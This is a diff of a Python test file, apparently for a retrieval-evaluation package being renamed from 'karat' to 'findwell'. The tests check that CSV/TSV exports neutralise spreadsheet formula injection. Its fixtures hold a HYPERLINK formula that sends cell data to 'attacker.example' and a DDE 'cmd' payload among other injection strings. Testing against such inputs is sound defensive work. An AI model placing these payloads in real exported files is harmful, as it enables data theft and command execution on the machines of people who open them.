@@ -1,4 +1,4 @@
-"""A cell that would be a formula is a text, and karat reads its own tables back unchanged."""
+"""A cell that would be a formula is a text, and findwell reads its own tables back unchanged."""
 
 from __future__ import annotations
 
@@ -12,13 +12,13 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-import karat
-from karat.core.spreadsheets import OWN, is_own, to_csv, without_apostrophes
+import findwell
+from findwell.core.spreadsheets import OWN, is_own, to_csv, without_apostrophes
 
 if TYPE_CHECKING:
     from pathlib import Path
 
-    from tests.conftest import Karat, Save
+    from tests.conftest import Findwell, Save
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
 DANGEROUS = [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1"]
@@ -63,7 +63,7 @@ def csv_column(text: str) -> list[str]:
         ["curve", "--format", "csv"],
     ],
 )
-def test_no_command_writes_a_formula(command: list[str], cli: Karat, save: Save) -> None:
+def test_no_command_writes_a_formula(command: list[str], cli: Findwell, save: Save) -> None:
     lines = [
         {"query": value, "question": value, "topic": value, "retrieved": ["a"], "gold": ["a"]}
         for value in DANGEROUS[:4]
@@ -83,8 +83,8 @@ def test_labels_come_back_as_they_were(ending: str, tmp_path: Path) -> None:
     retrieved = [{"doc": doc, "text": f"={doc}"} for doc in docs]
     records = [{"query": FORMULA, "question": FORMULA, "retrieved": retrieved}]
     for folder in ("one", "two"):
-        karat.pool([records], tmp_path / folder, depth=4, purpose="ordering", method="depth")
-    with karat.Labels.open(tmp_path / "one") as labels:
+        findwell.pool([records], tmp_path / folder, depth=4, purpose="ordering", method="depth")
+    with findwell.Labels.open(tmp_path / "one") as labels:
         for doc in docs:
             labels.set(FORMULA, doc, 1, annotator="@anna", note="+1 from me")
         labels.export(tmp_path / f"labels.{ending}")
@@ -92,15 +92,15 @@ def test_labels_come_back_as_they_were(ending: str, tmp_path: Path) -> None:
     text = (tmp_path / f"labels.{ending}").read_text("utf-8")
     separator = "\t" if ending == "tsv" else ","
     assert not [cell for cell in cells(text, separator) if cell[:1] in tuple("=+-@")]
-    with karat.Labels.open(tmp_path / "two") as labels:
+    with findwell.Labels.open(tmp_path / "two") as labels:
         labels.import_labels(tmp_path / f"labels.{ending}")
         assert labels.frame().drop("time").equals(before)
-    gold = karat.evaluate({FORMULA: docs}, tmp_path / f"labels.{ending}", measures=["recall@4"])
+    gold = findwell.evaluate({FORMULA: docs}, tmp_path / f"labels.{ending}", measures=["recall@4"])
     assert gold["recall@4"] == 1.0
 
 
-def test_only_tables_of_karat_are_read_so(save: Save) -> None:
+def test_only_tables_of_findwell_are_read_so(save: Save) -> None:
     gold = save("gold.csv", "query,doc\nq1,'=d\n")
-    assert karat.evaluate({"q1": ["'=d"]}, gold, measures=["RR"])["RR"] == 1.0
+    assert findwell.evaluate({"q1": ["'=d"]}, gold, measures=["RR"])["RR"] == 1.0
     assert not is_own(["query", "doc", "grade"])
     assert all(is_own([*own, "more"]) for own in OWN)
